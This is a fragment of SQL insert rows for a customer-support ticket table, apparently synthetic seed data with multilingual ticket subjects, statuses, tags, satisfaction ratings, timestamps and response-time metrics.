	(12, 'Help!!! 😡😡', 'closed', 'problem', 'low', 'web', 42199023255709, 46597069766685, NULL, 40000000007197, 40000000003357, 41099511628189, '{topic_refund}', '{"44398046523933": "topic_refund", "44398046524061": 197, "44398046524189": 79}', 'good', NULL, NULL, '2025-10-13 07:19:26+00', '2025-11-10 17:09:01+00', '2025-11-10 17:09:01+00', '2025-10-13 17:09:01+00', '2025-10-13 09:40:57+00', '2025-10-13 17:09:01+00', 0, 1, 2, 2, 25, 590, 590, 379, 211, 4, 0, 480, 480, 309, 171, 3, 197, false),
	(10, '請求書を再送してください', 'closed', 'task', NULL, 'email', 42199023255581, 46597069766685, NULL, 40000000011165, 40000000003101, 41099511628189, '{topic_late_delivery}', '{"44398046523933": "topic_late_delivery", "44398046524061": 1056, "44398046524189": 422, "44398046524317": "NW-079190", "44398046524445": true}', 'good', NULL, NULL, '2025-10-11 14:24:08+00', '2025-11-10 18:49:22+00', '2025-11-10 18:49:22+00', '2025-10-13 18:49:22+00', '2025-10-11 14:24:08+00', '2025-10-13 18:49:22+00', 0, 2, 1, 1, 5, 3145, 3145, 2488, 658, 0, 0, 480, 480, 380, 100, 0, 1056, false),
	(63, 'Не приходить код підтвердження', 'pending', 'question', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000008605, 40000000004765, 41099511628445, '{topic_order_change}', '{"44398046523933": "topic_order_change"}', 'unoffered', NULL, NULL, '2025-11-10 16:28:30+00', '2025-11-10 19:39:06+00', '2025-11-10 19:39:06+00', NULL, '2025-11-10 16:28:30+00', '2025-11-10 19:39:06+00', 0, 1, 1, 1, 191, NULL, NULL, NULL, NULL, 0, 32, NULL, NULL, NULL, NULL, 0, NULL, false),
	(59, 'Charged twice in October', 'solved', NULL, 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000011165, 40000000003869, 41099511628317, '{topic_setup}', '{"44398046523933": "topic_setup", "44398046524317": "NW-467221"}', 'offered', NULL, NULL, '2025-11-08 11:02:16+00', '2025-11-11 06:04:09+00', '2025-11-11 06:04:09+00', '2025-11-11 06:04:08+00', '2025-11-08 11:02:16+00', '2025-11-11 06:04:08+00', 0, 1, 1, 1, 278, 4022, 4022, 2461, 1560, 0, 0, 480, 480, 294, 186, 0, NULL, false),
	(60, 'Faktura bez numeru NIP', 'solved', 'problem', 'normal', 'api', 42199023255581, 46597069766685, NULL, 40000000006813, 40000000001437, 41099511627933, '{escalated,topic_refund,vip}', '{"44398046523933": "topic_refund", "44398046524061": 985, "44398046524189": 394, "44398046524445": true}', 'unoffered', NULL, NULL, '2025-11-09 13:20:16+00', '2025-11-11 06:47:23+00', '2025-11-11 06:47:23+00', '2025-11-11 06:47:23+00', '2025-11-09 13:20:16+00', '2025-11-11 06:47:23+00', 0, 2, 1, 1, 20, 2487, 2487, 1506, 981, 0, 0, 480, 480, 291, 189, 0, 985, false),
	(64, 'Wrong size received', 'solved', 'question', 'high', 'web', 42199023255581, 46597069766685, NULL, 40000000005789, 40000000001181, 41099511628061, '{topic_bug,über_urgent}', '{"44398046523933": "topic_bug", "44398046524317": "NW-506816"}', 'offered', NULL, NULL, '2025-11-11 10:49:08+00', '2025-11-11 12:05:57+00', '2025-11-11 12:05:57+00', '2025-11-11 12:05:56+00', '2025-11-11 10:49:08+00', '2025-11-11 12:05:56+00', 0, 1, 1, 1, 73, 77, 77, 36, 41, 0, 73, 77, 77, 36, 41, 0, NULL, false),
	(15, 'Pedido incompleto', 'closed', 'incident', 'normal', 'api', 42199023255581, 46597069766685, NULL, 40000000009117, 40000000004765, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 177, "44398046524189": 70, "44398046524445": true}', 'offered', NULL, NULL, '2025-10-14 10:40:41+00', '2025-11-12 03:04:51+00', '2025-11-12 03:04:51+00', '2025-10-15 03:04:51+00', '2025-10-14 10:40:41+00', '2025-10-15 03:04:51+00', 1, 5, 1, 1, 28, 39, 984, 283, 283, 0, 28, 39, 379, 20, 20, 0, 177, false),
	(14, '請求書を再送してください', 'closed', 'task', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000008605, 40000000003229, 41099511628189, '{topic_return}', '{"44398046523933": "topic_return", "44398046524061": 852, "44398046524189": 341, "44398046524317": "NW-110866"}', 'good', NULL, 'とても丁寧な対応でした。', '2025-10-14 10:38:30+00', '2025-11-12 06:59:54+00', '2025-11-12 06:59:54+00', '2025-10-15 06:59:54+00', '2025-10-14 10:38:30+00', '2025-10-15 06:59:54+00', 0, 1, 1, 1, 32, 1221, 1221, 663, 558, 0, 32, 382, 382, 207, 174, 0, 852, false),
	(18, 'Rückerstattung fehlt noch immer', 'closed', NULL, 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000010397, 40000000004509, 41099511628317, '{topic_setup}', '{"44398046523933": "topic_setup"}', 'offered', NULL, NULL, '2025-10-15 05:37:47+00', '2025-11-12 06:19:10+00', '2025-11-13 02:28:20+00', '2025-10-15 06:19:10+00', '2025-10-15 05:37:47+00', '2025-10-15 06:19:10+00', 0, 2, 1, 1, 41, 41, 41, 28, 14, 0, 0, 0, 0, 0, 0, 0, NULL, false),
	(66, 'Parcel still not here', 'solved', 'question', 'normal', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000012061, 40000000001821, 41099511627933, '{topic_refund}', '{"44398046523933": "topic_refund"}', 'offered', NULL, NULL, '2025-11-12 10:27:56+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-12 10:27:56+00', '2025-11-24 17:00:00+00', 0, 2, 1, 1, 8, 692, 17672, 5988, 11684, 625, 8, 392, 4232, 1434, 2798, 150, NULL, false),
	(68, 'Pedido incompleto', 'solved', 'incident', 'normal', 'api', 42199023255581, 46597069766685, NULL, 40000000007197, 40000000004125, 41099511628317, '{topic_setup}', '{"44398046523933": "topic_setup", "44398046524061": 411, "44398046524189": 164, "44398046524317": "NW-538492"}', 'offered', NULL, NULL, '2025-11-12 14:47:55+00', '2025-11-13 06:18:53+00', '2025-11-13 06:18:53+00', '2025-11-13 06:18:52+00', '2025-11-12 14:47:55+00', '2025-11-13 06:18:52+00', 0, 6, 1, 1, 645, 931, 931, 830, 101, 0, 132, 132, 132, 118, 14, 0, 411, false),
	(16, 'रिफंड कब मिलेगा?', 'closed', 'question', 'high', 'email', 42199023255581, 46597069766685, 43298534883997, 40000000010909, 40000000003869, 41099511628317, '{topic_setup}', '{"44398046523933": "topic_setup", "44398046524317": "NW-126704"}', 'good', NULL, NULL, '2025-10-14 15:33:29+00', '2025-11-13 13:25:49+00', '2025-11-13 13:25:49+00', '2025-10-16 13:25:49+00', '2025-10-14 15:33:29+00', '2025-10-16 13:25:49+00', 0, 2, 1, 1, 211, 2752, 2752, 1577, 1175, 185, 87, 832, 832, 477, 355, 56, NULL, false),
	(21, 'Не приходить код підтвердження', 'closed', NULL, 'normal', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000009245, 40000000001821, 41099511627933, '{topic_invoice}', '{"44398046523933": "topic_invoice", "44398046524061": 307, "44398046524189": 122}', 'bad', NULL, 'I had to explain everything again. It was about the invoice of last month.', '2025-10-16 08:22:51+00', '2025-11-13 21:03:53+00', '2025-11-13 21:03:53+00', '2025-10-16 21:03:53+00', '2025-10-20 20:00:59+00', '2025-10-16 21:03:53+00', 0, 3, 2, 1, 53, 761, 761, 650, 111, 126, 16, 480, 480, 410, 70, 80, 307, false),
	(72, 'Export to CSV stops half way', 'open', 'question', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000006301, 40000000004893, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 398, "44398046524189": 159}', 'unoffered', NULL, NULL, '2025-11-13 20:22:49+00', '2025-11-13 21:28:24+00', '2025-11-13 21:28:24+00', NULL, '2025-11-13 20:22:49+00', '2025-11-13 21:28:24+00', 0, 1, 1, 1, 66, NULL, NULL, NULL, NULL, 0, 0, NULL, NULL, NULL, NULL, 0, 398, false),
	(22, 'Help!!! 😡😡', 'closed', 'incident', 'high', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000007837, 40000000000541, 41099511627805, '{topic_general}', '{"44398046523933": "topic_general", "44398046524061": 133, "44398046524189": 53, "44398046524317": "NW-174218"}', 'good', NULL, NULL, '2025-10-16 13:43:40+00', '2025-11-13 23:48:30+00', '2025-11-13 23:48:30+00', '2025-10-16 23:48:30+00', '2025-10-16 13:43:40+00', '2025-10-16 23:48:30+00', 0, 2, 1, 1, 243, 605, 605, 477, 128, 0, 196, 196, 196, 155, 42, 0, 133, false),
	(23, 'Rückerstattung fehlt noch immer', 'closed', 'question', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000008093, 40000000004509, 41099511628317, '{topic_setup,vip}', '{"44398046523933": "topic_setup", "44398046524317": "NW-182137"}', 'bad', 'The information provided was not clear or helpful', 'Nobody read what I wrote.', '2025-10-16 22:57:32+00', '2025-11-14 04:56:02+00', '2025-11-14 04:56:02+00', '2025-10-17 04:56:02+00', '2025-10-16 22:57:32+00', '2025-10-17 04:56:02+00', 0, 5, 1, 1, 276, 358, 358, 184, 175, 0, 0, 0, 0, 0, 0, 0, NULL, false),
	(26, 'Pedido incompleto', 'closed', NULL, 'normal', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000007581, 40000000003229, 41099511628189, '{topic_late_delivery}', '{"44398046523933": "topic_late_delivery", "44398046524061": 316, "44398046524189": 126, "44398046524317": "NW-205894"}', 'unoffered', NULL, NULL, '2025-10-17 19:55:56+00', '2025-11-14 23:30:58+00', '2025-11-14 23:30:58+00', '2025-10-17 23:30:58+00', '2025-10-17 19:55:56+00', '2025-10-17 23:30:58+00', 0, 2, 1, 1, 7, 215, 215, 153, 62, 0, 0, 0, 0, 0, 0, 0, 316, false),
	(73, 'Help!!! 😡😡', 'solved', NULL, 'urgent', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000008477, 40000000003869, 41099511628317, '{topic_training}', '{"44398046523933": "topic_training", "44398046524061": 385, "44398046524189": 154, "44398046524317": "NW-578087"}', 'unoffered', NULL, NULL, '2025-11-15 01:09:14+00', '2025-11-15 03:42:52+00', '2025-11-15 03:42:52+00', '2025-11-15 03:42:52+00', '2025-11-15 01:09:14+00', '2025-11-15 03:42:52+00', 0, 3, 1, 1, 56, 154, 154, 104, 49, 0, 0, 0, 0, 0, 0, 0, 385, false),
	(24, 'Mot de passe oublié', 'closed', 'incident', 'urgent', 'email', 42199023255581, 46597069766685, NULL, 40000000006045, 40000000001437, 41099511627933, '{topic_refund}', '{"44398046523933": "topic_refund", "44398046524061": 740, "44398046524189": 296}', 'offered', NULL, NULL, '2025-10-17 08:17:04+00', '2025-11-15 05:09:16+00', '2025-11-15 05:09:16+00', '2025-10-18 05:09:16+00', '2025-10-17 08:17:04+00', '2025-10-18 05:09:16+00', 0, 4, 1, 1, 50, 1252, 1252, 623, 629, 0, 8, 480, 480, 239, 241, 0, 740, false),
	(8, 'Mot de passe oublié', 'closed', 'task', NULL, 'email', 42199023255581, 46597069766685, 43298534883997, 40000000010141, 40000000001437, 41099511627933, '{beta,topic_refund}', '{"44398046523933": "topic_refund", "44398046524061": 225, "44398046524189": 90, "44398046524317": "NW-063352"}', 'offered', NULL, NULL, '2025-10-09 15:10:02+00', '2025-11-15 21:04:53+00', '2025-11-15 21:04:53+00', '2025-10-18 21:04:53+00', '2025-10-17 11:17:26+00', '2025-10-18 21:04:53+00', 0, 5, 2, 1, 174, 13315, 13315, 10719, 2596, 0, 110, 2990, 2990, 2407, 583, 0, 225, false),
	(19, 'रिफंड कब मिलेगा?', 'closed', 'question', 'normal', 'email', 42199023255709, 46597069766685, NULL, 40000000009885, 40000000002461, 41099511628061, '{closed_by_merge,topic_bug}', '{"44398046523933": "topic_bug", "44398046524061": 220, "44398046524189": 88, "44398046524317": "NW-150461"}', 'offered', NULL, NULL, '2025-10-15 10:45:26+00', '2025-11-16 18:28:04+00', '2025-11-16 18:28:04+00', '2025-10-19 18:28:04+00', '2025-10-15 10:45:26+00', '2025-10-19 18:28:04+00', 0, 2, 1, 1, 285, 6223, 6223, 4647, 1576, 0, 285, 1335, 1335, 997, 338, 0, 220, false),
	(77, '請求書を再送してください', 'solved', 'incident', NULL, 'web', 42199023255709, 46597069766685, 43298534883613, 40000000008349, 40000000000541, 41099511627805, '{topic_account_access,vip}', '{"44398046523933": "topic_account_access", "44398046524317": "NW-609763"}', 'offered', NULL, NULL, '2025-11-17 17:47:27+00', '2025-11-17 21:01:18+00', '2025-11-17 21:01:18+00', '2025-11-17 21:01:17+00', '2025-11-17 17:47:27+00', '2025-11-17 21:01:17+00', 0, 1, 1, 1, 64, 194, 194, 104, 90, 19, 0, 0, 0, 0, 0, 0, NULL, false),
	(27, '請求書を再送してください', 'closed', 'problem', 'low', 'web', 42199023255581, 46597069766685, NULL, 40000000007197, 40000000002461, 41099511628061, '{topic_integration}', '{"44398046523933": "topic_integration", "44398046524061": 700, "44398046524189": 280}', 'offered', NULL, NULL, '2025-10-20 05:54:49+00', '2025-11-17 22:52:48+00', '2025-11-17 22:52:48+00', '2025-10-20 22:52:48+00', '2025-10-20 05:54:49+00', '2025-10-20 22:52:48+00', 0, 1, 1, 1, 251, 1018, 1018, 718, 300, 163, 66, 480, 480, 338, 142, 77, 700, false),
	(78, 'Discount code does not work', 'solved', NULL, 'low', 'web', 42199023255581, 46597069766685, 43298534883997, 40000000010909, 40000000003997, 41099511628317, '{topic_training}', '{"44398046523933": "topic_training", "44398046524061": 51, "44398046524189": 20}', 'offered', NULL, NULL, '2025-11-18 07:25:29+00', '2025-11-18 12:25:36+00', '2025-11-18 12:25:36+00', '2025-11-18 12:25:35+00', '2025-11-18 07:25:29+00', '2025-11-18 12:25:35+00', 0, 1, 1, 1, 53, 300, 300, 170, 130, 0, 0, 206, 206, 117, 89, 0, 51, false),
	(31, 'לא קיבלתי זיכוי', 'closed', 'question', 'normal', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000008221, 40000000004893, 41099511628445, '{beta,topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524317": "NW-245489"}', 'bad', NULL, NULL, '2025-10-21 17:28:07+00', '2025-11-18 17:56:52+00', '2025-11-18 17:56:52+00', '2025-10-21 17:56:52+00', '2025-10-21 17:28:07+00', '2025-10-21 17:56:52+00', 0, 4, 1, 1, 29, 29, 29, 23, 5, 0, 0, 0, 0, 0, 0, 0, NULL, false),
	(76, 'Pedido incompleto', 'solved', NULL, NULL, 'web', 42199023255581, 46597069766685, NULL, 40000000009885, 40000000001693, 41099511627933, '{topic_refund}', '{"44398046523933": "topic_refund", "44398046524061": 75, "44398046524189": 30, "44398046524317": "NW-601844"}', 'unoffered', NULL, NULL, '2025-11-17 11:02:12+00', '2025-11-18 18:13:22+00', '2025-11-18 18:13:22+00', '2025-11-18 18:13:22+00', '2025-11-17 11:02:12+00', '2025-11-18 18:13:22+00', 0, 2, 1, 1, 20, 1871, 1871, 1518, 353, 0, 20, 838, 838, 680, 158, 0, 75, false),
	(28, 'لم يصل طلبي بعد', 'closed', 'question', 'normal', 'api', 42199023255581, 46597069766685, NULL, 40000000009629, 40000000000541, 41099511627805, '{topic_general}', '{"44398046523933": "topic_general", "44398046524317": "NW-221732"}', 'offered', NULL, NULL, '2025-10-20 14:07:07+00', '2025-11-18 18:22:10+00', '2025-11-18 18:22:10+00', '2025-10-21 18:22:10+00', '2025-10-20 14:07:07+00', '2025-10-21 18:22:10+00', 0, 1, 1, 1, 571, 1695, 1695, 731, 964, 0, 173, 653, 653, 282, 371, 0, NULL, false),
	(33, 'Discount code does not work', 'closed', 'question', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000012061, 40000000001565, 41099511627933, '{topic_invoice}', '{"44398046523933": "topic_invoice", "44398046524061": 256, "44398046524189": 102}', 'good', NULL, NULL, '2025-10-21 20:45:01+00', '2025-11-19 00:04:57+00', '2025-11-19 00:04:57+00', '2025-10-22 00:04:57+00', '2025-10-21 20:45:01+00', '2025-10-22 00:04:57+00', 0, 1, 1, 1, 191, 200, 200, 156, 44, 4, 0, 0, 0, 0, 0, 0, 256, false),
	(25, 'Where is my refund?', 'closed', 'problem', 'low', 'email', 42199023255581, 46597069766685, NULL, 40000000006429, 40000000004509, 41099511628317, '{topic_training}', '{"44398046523933": "topic_training", "44398046524061": 328, "44398046524189": 131, "44398046524317": "NW-197975", "44398046524445": true}', 'offered', NULL, NULL, '2025-10-17 11:06:31+00', '2025-11-19 00:34:54+00', '2025-11-19 00:34:54+00', '2025-10-22 00:34:54+00', '2025-10-17 11:06:31+00', '2025-10-22 00:34:54+00', 1, 2, 1, 1, 106, 5414, 6568, 2242, 4021, 0, 106, 833, 1313, 440, 789, 0, 328, false),
	(79, '請求書を再送してください', 'solved', NULL, 'normal', 'web', 42199023255581, 46597069766685, NULL, 40000000007837, 40000000000669, 41099511627805, '{topic_general}', '{"44398046523933": "topic_general", "44398046524061": 837, "44398046524189": 334, "44398046524317": "NW-625601"}', 'offered', NULL, NULL, '2025-11-18 11:32:17+00', '2025-11-19 02:32:34+00', '2025-11-19 02:32:34+00', '2025-11-19 02:32:33+00', '2025-11-18 11:32:17+00', '2025-11-19 02:32:33+00', 0, 1, 1, 1, 65, 900, 900, 677, 224, 0, 65, 328, 328, 246, 81, 0, 837, false),
	(70, 'לא קיבלתי זיכוי', 'solved', 'question', 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000008477, 40000000003741, 41099511628189, '{escalated,topic_return,vip}', '{"44398046523933": "topic_return", "44398046524061": 2249, "44398046524189": 899, "44398046524317": "NW-554330", "44398046524445": true}', 'offered', NULL, NULL, '2025-11-13 11:04:26+00', '2025-11-19 11:38:26+00', '2025-11-19 11:38:26+00', '2025-11-19 11:38:26+00', '2025-11-13 11:04:26+00', '2025-11-19 11:38:26+00', 1, 2, 1, 1, 1747, 5869, 8674, 6791, 1055, 0, NULL, NULL, NULL, NULL, NULL, NULL, 2249, false),
	(80, 'Question about my last invoice', 'solved', 'question', 'normal', 'api', 42199023255581, 46597069766685, NULL, 40000000009757, 40000000001821, 41099511627933, '{beta,topic_invoice}', '{"44398046523933": "topic_invoice", "44398046524061": 486, "44398046524189": 194, "44398046524317": "NW-633520", "44398046524445": true}', 'offered', NULL, NULL, '2025-11-19 10:44:10+00', '2025-11-19 14:59:19+00', '2025-11-19 14:59:19+00', '2025-11-19 14:59:18+00', '2025-11-19 10:44:10+00', '2025-11-19 14:59:18+00', 0, 1, 1, 1, 255, 255, 255, 206, 49, 2, 255, 255, 255, 206, 49, 2, 486, false),
	(81, 'No puedo iniciar sesión', 'solved', NULL, 'high', 'web', 42199023255581, 46597069766685, NULL, 40000000008989, 40000000005021, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 224, "44398046524189": 89}', 'offered', NULL, NULL, '2025-11-19 11:27:15+00', '2025-11-20 02:36:13+00', '2025-11-20 02:36:13+00', '2025-11-20 02:36:12+00', '2025-11-19 11:27:15+00', '2025-11-20 02:36:12+00', 0, 3, 1, 1, 6, 909, 909, 495, 414, 0, 6, 333, 333, 181, 152, 0, 224, false),
	(83, 'Kann mich nicht anmelden', 'solved', 'question', 'normal', 'web', 42199023255709, 46597069766685, NULL, 40000000006557, 40000000004765, 41099511628445, '{topic_bug}', '{"44398046523933": "topic_bug", "44398046524061": 732, "44398046524189": 292, "44398046524317": "NW-657277"}', 'offered', NULL, NULL, '2025-11-19 13:25:01+00', '2025-11-20 04:26:58+00', '2025-11-20 04:26:58+00', '2025-11-20 04:26:57+00', '2025-11-19 19:01:55+00', '2025-11-20 04:26:57+00', 0, 2, 2, 2, 19, 902, 902, 416, 486, 28, 19, 215, 215, 99, 116, 7, 732, false),
	(35, 'Mot de passe oublié', 'closed', NULL, 'high', 'email', 42199023255581, 46597069766685, NULL, 40000000007709, 40000000004765, 41099511628445, '{beta,topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 315, "44398046524189": 126, "44398046524317": "NW-277165", "44398046524445": true}', 'offered', NULL, NULL, '2025-10-22 16:49:36+00', '2025-11-20 06:47:01+00', '2025-11-20 06:47:01+00', '2025-10-23 06:47:01+00', '2025-10-22 16:49:36+00', '2025-10-23 06:47:01+00', 0, 1, 1, 1, 38, 837, 837, 492, 345, 0, 10, 10, 10, 6, 4, 0, 315, false),
	(84, 'No puedo iniciar sesión', 'solved', 'incident', 'urgent', 'email', 42199023255709, 46597069766685, 43298534883485, 40000000008861, 40000000004765, 41099511628445, '{topic_order_change}', '{"44398046523933": "topic_order_change"}', 'offered', NULL, NULL, '2025-11-20 09:33:29+00', '2025-11-20 10:12:58+00', '2025-11-20 10:12:58+00', '2025-11-20 10:12:57+00', '2025-11-20 09:33:29+00', '2025-11-20 10:12:57+00', 0, 5, 1, 1, 37, 39, 39, 35, 5, 0, 37, 39, 39, 35, 5, 0, NULL, false),
	(67, 'रिफंड कब मिलेगा?', 'solved', 'incident', 'normal', 'email', 42199023255709, 46597069766685, NULL, 40000000008093, 40000000004893, 41099511628445, '{topic_order_change}', '{"44398046523933": "topic_order_change", "44398046524061": 718, "44398046524189": 287, "44398046524317": "NW-530573"}', 'offered', NULL, NULL, '2025-11-12 10:48:25+00', '2025-11-20 10:31:38+00', '2025-11-20 10:31:38+00', '2025-11-20 10:31:38+00', '2025-11-12 10:48:25+00', '2025-11-20 10:31:38+00', 1, 3, 1, 1, 67, 81, 11503, 861, 248, 0, 67, 81, 2863, 134, 39, 0, 718, false),
	(30, 'Faktura bez numeru NIP', 'closed', NULL, 'low', 'web', 42199023255581, 46597069766685, NULL, 40000000006941, 40000000000285, 41099511627805, '{escalated,topic_account_access,vip}', '{"44398046523933": "topic_account_access", "44398046524445": true}', 'good', NULL, NULL, '2025-10-21 11:22:00+00', '2025-11-21 20:50:27+00', '2025-11-21 20:50:27+00', '2025-10-24 20:50:27+00', '2025-10-21 11:22:00+00', '2025-10-24 20:50:27+00', 0, 1, 1, 1, 79, 4888, 4888, 4198, 690, 0, 79, 1778, 1778, 1527, 251, 0, NULL, false),
	(34, 'لم يصل طلبي بعد', 'closed', NULL, 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000008733, 40000000000541, 41099511627805, '{topic_general}', '{"44398046523933": "topic_general", "44398046524061": 255, "44398046524189": 102, "44398046524317": "NW-269246"}', 'unoffered', NULL, NULL, '2025-10-22 13:06:02+00', '2025-11-22 08:56:20+00', '2025-11-22 08:56:20+00', '2025-10-25 08:56:20+00', '2025-10-22 13:06:02+00', '2025-10-25 08:56:20+00', 0, 1, 1, 1, 33, 4070, 4070, 3968, 103, 0, NULL, NULL, NULL, NULL, NULL, NULL, 255, false),
	(36, 'Pedido incompleto', 'closed', 'question', 'normal', 'web', 42199023255581, 46597069766685, NULL, 40000000007453, 40000000002333, 41099511628061, '{topic_bug}', '{"44398046523933": "topic_bug", "44398046524061": 185, "44398046524189": 74}', 'offered', NULL, NULL, '2025-10-25 20:43:51+00', '2025-11-22 21:40:12+00', '2025-11-22 21:40:12+00', '2025-10-25 21:40:12+00', '2025-10-25 20:43:51+00', '2025-10-25 21:40:12+00', 0, 5, 1, 1, 56, 56, 56, 44, 13, 0, 0, 0, 0, 0, 0, 0, 185, false),
	(91, 'No puedo iniciar sesión', 'solved', 'incident', 'low', 'email', 42199023255709, 46597069766685, NULL, 40000000007325, 40000000004125, 41099511628317, '{topic_setup}', '{"44398046523933": "topic_setup", "44398046524061": 288, "44398046524189": 115, "44398046524317": "NW-720629"}', 'offered', NULL, NULL, '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', 0, 1, 1, 1, 30, 60, 60, 33, 27, 3, 30, 60, 60, 33, 27, 3, 288, false),
	(92, 'Mot de passe oublié', 'solved', 'incident', 'low', 'web', 42199023255581, 46597069766685, NULL, 40000000011421, 40000000000669, 41099511627805, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524317": "NW-728548"}', 'offered', NULL, NULL, '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', 0, 1, 1, 1, 30, 60, 60, 35, 25, 0, 30, 60, 60, 35, 25, 0, NULL, false),
	(93, 'Faktura bez numeru NIP', 'solved', 'question', 'normal', 'voice', 42199023255581, 46597069766685, NULL, 40000000010525, 40000000000029, 41099511627805, '{topic_account_access,über_urgent}', '{"44398046523933": "topic_account_access"}', 'offered', NULL, NULL, '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', 0, 1, 1, 1, 30, 60, 60, 38, 22, 1, 30, 60, 60, 38, 22, 1, NULL, false),
	(94, 'No puedo iniciar sesión', 'solved', NULL, 'urgent', 'email', 42199023255709, 46597069766685, NULL, 40000000010653, 40000000000029, 41099511627805, '{topic_general,über_urgent}', '{"44398046523933": "topic_general", "44398046524317": "NW-744386"}', 'offered', NULL, NULL, '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', 0, 1, 1, 1, 30, 60, 60, 50, 10, 0, 30, 60, 60, 50, 10, 0, NULL, false),
	(95, 'Cancel my subscription', 'solved', 'incident', 'high', 'email', 42199023255581, 46597069766685, NULL, 40000000007197, 40000000003357, 41099511628189, '{topic_late_delivery}', '{"44398046523933": "topic_late_delivery", "44398046524061": 1234, "44398046524189": 493, "44398046524317": "NW-752305", "44398046524445": true}', 'offered', NULL, NULL, '2025-11-24 14:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 15:00:00+00', '2025-11-24 14:47:26+00', '2025-11-24 15:00:00+00', 0, 1, 2, 1, 30, 60, 60, 50, 10, 7, 30, 60, 60, 50, 10, 7, 1234, false),
	(2, 'Kann mich nicht anmelden', 'closed', 'question', 'normal', 'native_messaging', 42199023255581, 46597069766685, 43298534883869, 40000000011805, 40000000000541, 41099511627805, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 350, "44398046524189": 140, "44398046524317": "NW-015838"}', 'good', NULL, 'Took far too long.', '2025-10-07 06:57:06+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-10-07 07:27:53+00', '2025-10-07 06:57:06+00', '2025-10-07 07:27:53+00', 0, 3, 1, 1, 31, 31, 31, 13, 18, 0, 0, 0, 0, 0, 0, 0, 350, false),
	(7, 'Kann mich nicht anmelden', 'closed', 'question', 'normal', 'web', 42199023255581, 46597069766685, NULL, 40000000005405, 40000000002333, 41099511628061, '{topic_bug,über_urgent}', '{"44398046523933": "topic_bug", "44398046524061": 634, "44398046524189": 253, "44398046524317": "NW-055433"}', 'good', NULL, 'Viel zu langsam, und das Problem besteht weiter.', '2025-10-08 13:42:26+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-10-08 22:44:45+00', '2025-10-08 13:42:26+00', '2025-10-08 22:44:45+00', 0, 2, 1, 1, 137, 542, 542, 340, 202, 0, 137, 198, 198, 124, 74, 0, 634, false),
	(13, 'Discount code does not work', 'closed', 'question', 'high', 'web', 42199023255581, 46597069766685, NULL, 40000000009245, 40000000001949, 41099511627933, '{topic_invoice}', '{"44398046523933": "topic_invoice", "44398046524061": 508, "44398046524189": 203, "44398046524317": "NW-102947"}', 'good', NULL, 'Took far too long.', '2025-10-13 17:17:27+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-10-15 19:28:14+00', '2025-10-13 17:17:27+00', '2025-10-15 19:28:14+00', 0, 2, 1, 1, 28, 3011, 3011, 1906, 1104, 0, 0, 960, 960, 608, 352, 0, 508, false),
	(20, 'Please change the delivery address', 'closed', 'problem', NULL, 'email', 42199023255581, 46597069766685, NULL, 40000000006941, 40000000004637, 41099511628445, '{topic_order_change}', '{"44398046523933": "topic_order_change", "44398046524061": 48, "44398046524189": 19, "44398046524317": "NW-158380", "44398046524445": true}', 'bad', NULL, 'Thanks for calling back.', '2025-10-16 07:30:49+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-10-17 03:47:34+00', '2025-10-20 03:41:25+00', '2025-10-17 03:47:34+00', 0, 3, 2, 1, 39, 1217, 1217, 422, 795, 0, 0, 480, 480, 166, 314, 0, 48, false),
	(53, NULL, 'deleted', 'question', NULL, 'native_messaging', 42199023255709, 46597069766685, NULL, 40000000008605, 40000000002973, 41099511628061, '{topic_bug}', NULL, 'good', NULL, NULL, '2025-11-04 16:24:22+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-04 19:40:35+00', '2025-11-04 16:24:22+00', '2025-11-04 19:40:35+00', 0, 3, 1, 1, 1, 196, 196, 120, 77, 0, 1, 36, 36, 22, 14, 0, 901, true),
